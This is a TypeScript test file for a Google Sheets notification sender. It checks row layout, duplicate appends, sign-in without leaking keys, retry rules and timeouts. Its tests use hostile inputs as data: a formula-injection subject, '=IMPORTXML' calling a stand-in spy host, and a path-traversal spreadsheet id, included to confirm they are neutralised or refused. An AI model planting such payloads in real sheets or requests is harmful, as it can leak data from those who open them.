import { generateKeyPairSync } from 'node:crypto';
import type { ServerResponse } from 'node:http';
import { inspect } from 'node:util';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { OutgoingMessage } from './sender.js';
import { failureOf, type HttpDouble, messageTo, never, type Received, startHttpDouble } from './senders.test.support.js';
import { sheetSender } from './sheet-sender.js';

const token = 'a-token-of-google';
let key: string;
let privateKey: string;
let google: HttpDouble;
/** The rows of the sheet's one tab, and what Google's two halves answer instead of working. */
let rows: unknown[][];
let tokenAnswer: ((response: ServerResponse) => void) | null;
let sheetAnswer: ((response: ServerResponse) => void) | null;

const json = (response: ServerResponse, value: unknown, status = 200): void => {
  response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
};
const failing =
  (status: number, message: string, headers: Record<string, string> = {}) =>
  (response: ServerResponse) => {
    response
      .writeHead(status, { 'content-type': 'application/json', ...headers })
      .end(JSON.stringify({ error: { code: status, message } }));
  };

function answerAsGoogle({ path, body, headers, method }: Received, response: ServerResponse): void {
  if (path === '/token') (tokenAnswer ?? giveToken)(response);
  else if (headers.authorization !== `Bearer ${token}`) failing(401, 'no token')(response);
  else if (sheetAnswer !== null) sheetAnswer(response);
  else if (method === 'GET') json(response, { values: [columnOf(path)] });
  else {
    rows.push(...(JSON.parse(body) as { values: unknown[][] }).values);
    json(response, { updates: { updatedRows: 1 } });
  }
}

const giveToken = (response: ServerResponse): void =>
  json(response, { access_token: token, expires_in: 3_600, token_type: 'Bearer' });

function columnOf(path: string): readonly unknown[] {
  const letter = /!([A-Z]):[A-Z]/.exec(decodeURIComponent(path))?.[1] ?? '';
  return rows.map((row) => row[letter.charCodeAt(0) - 65] ?? '');
}

const sender = (timeoutMs = 60_000) => sheetSender({ key, rootUrl: `${google.url}/`, tokenUrl: `${google.url}/token`, timeoutMs });
const row = (more: Partial<OutgoingMessage> = {}, range = 'Backups'): OutgoingMessage =>
  messageTo({ kind: 'sheet', spreadsheetId: '1aB_c-D', range }, more);
const paths = (): readonly string[] => google.received.map(({ method, path }) => `${method} ${decodeURIComponent(path)}`);

beforeAll(() => {
  privateKey = generateKeyPairSync('rsa', { modulusLength: 2_048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  key = JSON.stringify({ type: 'service_account', client_email: 'remendo@project.example', private_key: privateKey });
});
beforeEach(async () => {
  [rows, tokenAnswer, sheetAnswer] = [[], null, null];
  google = await startHttpDouble(answerAsGoogle);
});
afterEach(() => google.stop());

describe('a row', () => {
  it('holds time, kind, subject, the facts in their order and the id', async () => {
    await sender().send(row(), never);
    expect(rows).toEqual([
      ['2026-03-01T12:00:00.000Z', 'release_published', 'Versão 1.0.1 está disponível', 'erp', '1.0.1', 8, false, '', row().id],
    ]);
  });

  it('is stored as text that Google does not read as a formula', async () => {
    await sender().send(
      row({ subject: '=IMPORTXML("http://spy.example", "//a")', data: { branch: '+1', note: 'x'.repeat(60_000) } }),
      never,
    );
    expect(paths().at(-1)).toBe(
      'POST /v4/spreadsheets/1aB_c-D/values/Backups:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS',
    );
    expect(rows[0]?.slice(2, 4)).toEqual(['=IMPORTXML("http://spy.example", "//a")', '+1']);
    expect(String(rows[0]?.[4]).length).toBe(50_000);
  });

  it('is appended once, though the answer to the first attempt was lost', async () => {
    const one = sender();
    sheetAnswer = (response) => {
      rows.push(['', '', '', '', '', '', '', '', row().id]);
      response.destroy();
    };
    expect(await failureOf(one.send(row(), never))).toMatchObject({ code: 'NOTIFICATION_FAILED' });
    sheetAnswer = null;
    await one.send(row({ attempt: 2 }), never);
    expect(rows.length).toBe(1);
    expect(paths().at(-1)).toMatch(/^GET \/v4\/spreadsheets\/1aB_c-D\/values\/'Backups'!I:I\?/);
  });

  it('is appended by a later attempt when the first did not arrive', async () => {
    await sender().send(row({ id: 'another' }), never);
    await sender().send(row({ attempt: 2 }), never);
    expect(rows.map((cells) => cells.at(-1))).toEqual(['another', row().id]);
  });
});

describe('signing in', () => {
  it('is done once for many rows, with a statement that the key signed for this token address', async () => {
    const one = sender();
    for (const id of ['a', 'b', 'c']) await one.send(row({ id }), never);
    expect(paths().filter((path) => path === 'POST /token').length).toBe(1);
    const [, claims] = new URLSearchParams(google.received[0]?.body).get('assertion')?.split('.') ?? [];
    expect(JSON.parse(Buffer.from(claims ?? '', 'base64url').toString())).toMatchObject({
      iss: 'remendo@project.example',
      aud: `${google.url}/token`,
      scope: 'https://www.googleapis.com/auth/spreadsheets',
    });
  });

  it('that fails keeps the row for later and tells no key', async () => {
    tokenAnswer = (response) => json(response, { error: 'invalid_grant', error_description: 'Invalid JWT Signature.' }, 400);
    const failure = await failureOf(sender().send(row(), never));
    expect(failure.code).toBe('NOTIFICATION_FAILED');
    expect(inspect(failure.cause)).toContain('invalid_grant');
    expect(inspect(failure, { depth: 20, showHidden: true })).not.toMatch(/PRIVATE KEY|assertion=|eyJ/);
  });

  it.each([
    ['no JSON', 'secret-words'],
    ['no key', '{"client_email":"a@b.example","private_key":"secret-words"}'],
    ['nothing', '{}'],
    ['a list', 'null'],
  ])('is not tried with %s, which is not repeated in the error', (_name, text) => {
    expect(() => sheetSender({ key: text })).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
    expect(() => sheetSender({ key: text })).not.toThrow(/secret-words/);
  });
});

describe('a sheet that takes no row', () => {
  it.each([429, 500, 503])('may take it after %i', async (status) => {
    sheetAnswer = failing(status, 'Quota exceeded', { 'retry-after': '60' });
    expect(await failureOf(sender().send(row(), never))).toMatchObject({
      code: 'NOTIFICATION_FAILED',
      details: { status, retryAfterMs: 60_000 },
    });
    expect(paths().filter((path) => path.includes(':append')).length).toBe(1);
  });

  it.each([400, 403, 404])('will not take it after %i', async (status) => {
    sheetAnswer = failing(status, 'The caller does not have permission');
    const failure = await failureOf(sender().send(row(), never));
    expect(failure).toMatchObject({ code: 'NOTIFICATION_REFUSED', details: { status } });
    expect(failure.cause).toEqual(new Error('The caller does not have permission'));
    expect(inspect(failure, { depth: 20, showHidden: true })).not.toContain(token);
  });

  it('is given up when it says nothing, whichever half of Google it is', async () => {
    sheetAnswer = () => {};
    const late = { code: 'NOTIFICATION_FAILED', message: 'there was no answer within 200 ms' };
    expect(await failureOf(sender(200).send(row(), never))).toMatchObject(late);
    tokenAnswer = () => {};
    expect(await failureOf(sender(200).send(row(), never))).toMatchObject(late);
  });

  it.each(['../drive', 'a/b', ''])('is not asked under the id %j', async (spreadsheetId) => {
    const message = messageTo({ kind: 'sheet', spreadsheetId, range: 'Backups' });
    expect((await failureOf(sender().send(message, never))).code).toBe('NOTIFICATION_REFUSED');
    expect(google.received).toEqual([]);
  });
});
